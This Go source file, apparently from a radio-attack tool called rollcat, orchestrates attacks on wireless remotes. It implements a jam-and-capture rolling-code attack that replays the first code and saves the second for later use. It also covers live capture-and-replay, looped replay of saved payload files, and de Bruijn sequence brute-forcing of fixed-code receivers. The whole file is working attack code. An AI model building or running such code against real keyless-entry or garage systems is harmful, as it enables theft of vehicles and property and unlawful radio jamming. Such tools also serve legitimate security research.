// Package attack composes capture, jamming and transmission into the
// rolling-code, live replay, saved replay and de Bruijn attacks.
package attack

import (
	"context"
	"fmt"
	"strconv"
	"strings"
	"time"

	"github.com/pkg/errors"
	"github.com/rs/zerolog/log"

	"github.com/herlein/rollcat/pkg/capture"
	"github.com/herlein/rollcat/pkg/correlate"
	"github.com/herlein/rollcat/pkg/debruijn"
	"github.com/herlein/rollcat/pkg/jam"
	"github.com/herlein/rollcat/pkg/radio"
	"github.com/herlein/rollcat/pkg/telemetry"
)

// Defaults matching the timing operators are used to
const (
	DefaultRepeat = 10
	DefaultGap    = 1 * time.Second
	DefaultSettle = 1 * time.Second
)

// Prompter is the operator decision port
type Prompter interface {
	// Confirm asks a yes/no question
	Confirm(question string) (bool, error)
	// Ask asks for a line of text
	Ask(question string) (string, error)
}

// Jammer is the subset of *jam.Coordinator the rolling-code attack uses
type Jammer interface {
	Start(ctx context.Context) error
	Stop() error
	State() jam.State
	Done() <-chan struct{}
	Err() error
}

// Orchestrator runs attacks on one capture/transmit radio
type Orchestrator struct {
	Port     radio.Port
	Settings radio.Settings
	Prompt   Prompter
	Sink     telemetry.Sink
	Store    *Store

	Repeat  int           // transmit repeat count
	Gap     time.Duration // pause before each replayed payload
	Settle  time.Duration // pause between the second capture and jam stop
	Timeout time.Duration // capture receive timeout
}

// New returns an orchestrator with default timing
func New(port radio.Port, settings radio.Settings, store *Store, prompt Prompter, sink telemetry.Sink) *Orchestrator {
	return &Orchestrator{
		Port:     port,
		Settings: settings,
		Prompt:   prompt,
		Sink:     sink,
		Store:    store,
		Repeat:   DefaultRepeat,
		Gap:      DefaultGap,
		Settle:   DefaultSettle,
		Timeout:  capture.DefaultTimeout,
	}
}

// Result summarizes what an attack did
type Result struct {
	Captures  []radio.Capture
	Sent      int
	SavedPath string
}

func (o *Orchestrator) session() *capture.Session {
	s := capture.NewSession(o.Port, o.Settings, o.Sink)
	if o.Timeout > 0 {
		s.Timeout = o.Timeout
	}
	return s
}

func wait(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		return ctx.Err()
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}

func (o *Orchestrator) transmit(data []byte) error {
	log.Info().Int("bytes", len(data)).Int("repeat", o.Repeat).Msg("sending payload")
	if err := o.Port.Transmit(data, o.Repeat); err != nil {
		return errors.Wrap(err, "transmit failed")
	}
	telemetry.Emit(o.Sink, telemetry.Event{
		Kind:      telemetry.KindTransmit,
		Frequency: o.Settings.Frequency,
		Payload:   fmt.Sprintf("%x", data),
	})
	return nil
}

func (o *Orchestrator) save(name string, payloads ...string) (string, error) {
	path, err := o.Store.Save(name, payloads...)
	if err != nil {
		return "", err
	}
	telemetry.Emit(o.Sink, telemetry.Event{Kind: telemetry.KindSaved, Path: path})
	return path, nil
}

// RollingCode jams while capturing two consecutive rolling codes, stops
// the jammer, replays the first code and then either sends the second on
// confirmation or saves it for later.
func (o *Orchestrator) RollingCode(ctx context.Context, jammer Jammer) (Result, error) {
	var res Result
	if o.Prompt == nil {
		return res, ErrNoPrompter
	}

	if err := jammer.Start(ctx); err != nil {
		return res, errors.Wrap(err, "failed to start jammer")
	}
	if jammer.State() != jam.Jamming {
		return res, errors.New("jammer did not enter jamming state")
	}
	log.Info().Msg("jammer running, waiting for two rolling code transmissions")

	// capture only while the jammer is actually transmitting
	capCtx, cancelCapture := context.WithCancel(ctx)
	defer cancelCapture()
	go func() {
		select {
		case <-jammer.Done():
			if jammer.Err() != nil {
				cancelCapture()
			}
		case <-capCtx.Done():
		}
	}()

	pair, err := o.session().RollingPair(capCtx)
	if err == nil {
		err = wait(capCtx, o.Settle)
	}
	if jamErr := jammer.Err(); jamErr != nil {
		if stopErr := jammer.Stop(); stopErr != nil {
			log.Debug().Err(stopErr).Msg("jammer stop after failure")
		}
		return res, errors.Wrap(jamErr, "jammer failed during capture")
	}
	if err != nil {
		if stopErr := jammer.Stop(); stopErr != nil {
			log.Error().Err(stopErr).Msg("failed to stop jammer")
		}
		return res, err
	}
	res.Captures = pair[:]

	if err := jammer.Stop(); err != nil {
		return res, errors.Wrap(err, "failed to stop jammer")
	}
	if jammer.State() != jam.Idle {
		return res, errors.New("jammer still running, refusing to transmit")
	}

	log.Info().Str("payload", pair[0].Hex()).Msg("sending first payload")
	if err := o.transmit(pair[0].Payload); err != nil {
		return res, err
	}
	res.Sent++

	send, err := o.Prompt.Confirm("Ready to send second payload?")
	if err != nil {
		return res, err
	}
	if send {
		if err := o.transmit(pair[1].Payload); err != nil {
			return res, err
		}
		res.Sent++
		return res, nil
	}

	name, err := o.Prompt.Ask("Choose a name to save your file as")
	if err != nil {
		return res, err
	}
	name = strings.TrimSpace(name)
	if !ValidName(name) {
		fallback := o.Store.TimestampedName()
		log.Warn().Str("name", name).Str("using", fallback).Msg("invalid capture name")
		name = fallback
	}
	res.SavedPath, err = o.save(name, pair[1].Hex())
	if err != nil {
		return res, err
	}
	log.Info().Str("path", res.SavedPath).Msg("second payload saved, replay it later with send")
	return res, nil
}

// LiveReplay captures one transmission the operator accepts, optionally
// replays it and optionally saves it to a timestamped capture file.
func (o *Orchestrator) LiveReplay(ctx context.Context) (Result, error) {
	var res Result
	if o.Prompt == nil {
		return res, ErrNoPrompter
	}

	session := o.session()
	session.Decide = func(c radio.Capture) (bool, error) {
		return o.Prompt.Confirm(fmt.Sprintf("Keep payload %s (rssi %d)?", c.Hex(), c.RSSI))
	}
	c, err := session.Single(ctx)
	if err != nil {
		return res, err
	}
	res.Captures = []radio.Capture{c}

	replay, err := o.Prompt.Confirm("Replay this capture?")
	if err != nil {
		return res, err
	}
	if replay {
		if err := wait(ctx, o.Gap); err != nil {
			return res, err
		}
		if err := o.transmit(c.Payload); err != nil {
			return res, err
		}
		res.Sent++
	}

	keep, err := o.Prompt.Confirm("Save this capture for later?")
	if err != nil {
		return res, err
	}
	if keep {
		res.SavedPath, err = o.save(o.Store.TimestampedName(), c.Hex())
		if err != nil {
			return res, err
		}
	}
	return res, nil
}

// ReplaySaved transmits every payload in a capture file, in file order,
// once or until ctx is cancelled. The file is fully loaded and decoded
// before the first transmission.
func (o *Orchestrator) ReplaySaved(ctx context.Context, path string, forever bool) (Result, error) {
	var res Result

	lines, err := Load(path)
	if err != nil {
		return res, err
	}
	if len(lines) == 0 {
		return res, errors.Wrapf(ErrInvalidPayload, "%s holds no payloads", path)
	}
	payloads := make([][]byte, len(lines))
	for i, line := range lines {
		if payloads[i], err = PayloadBytes(line); err != nil {
			return res, errors.Wrapf(err, "%s line %d", path, i+1)
		}
	}

	for {
		for _, p := range payloads {
			if err := wait(ctx, o.Gap); err != nil {
				return res, err
			}
			if err := o.transmit(p); err != nil {
				return res, err
			}
			res.Sent++
		}
		if !forever {
			return res, nil
		}
	}
}

// DeBruijn asks for an order n and transmits the binary de Bruijn
// sequence of that order once.
func (o *Orchestrator) DeBruijn(ctx context.Context) (Result, error) {
	var res Result
	if o.Prompt == nil {
		return res, ErrNoPrompter
	}

	answer, err := o.Prompt.Ask("What length de Bruijn would you like to try")
	if err != nil {
		return res, err
	}
	n, err := strconv.Atoi(strings.TrimSpace(answer))
	if err != nil || n < 1 {
		return res, errors.Wrapf(ErrInvalidLength, "%q", answer)
	}

	bits, err := debruijn.Bits(n)
	if err != nil {
		return res, errors.Wrapf(ErrInvalidLength, "%d: %v", n, err)
	}
	log.Info().Int("bits", len(bits)).Msg("sending de Bruijn sequence")
	if err := o.SendBits(ctx, bits); err != nil {
		return res, err
	}
	res.Sent++
	return res, nil
}

// SendBits packs a bit string into bytes and transmits it once
func (o *Orchestrator) SendBits(ctx context.Context, bits string) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	data, err := correlate.PackBits(bits)
	if err != nil {
		return errors.Wrap(ErrInvalidPayload, err.Error())
	}
	return o.transmit(data)
}
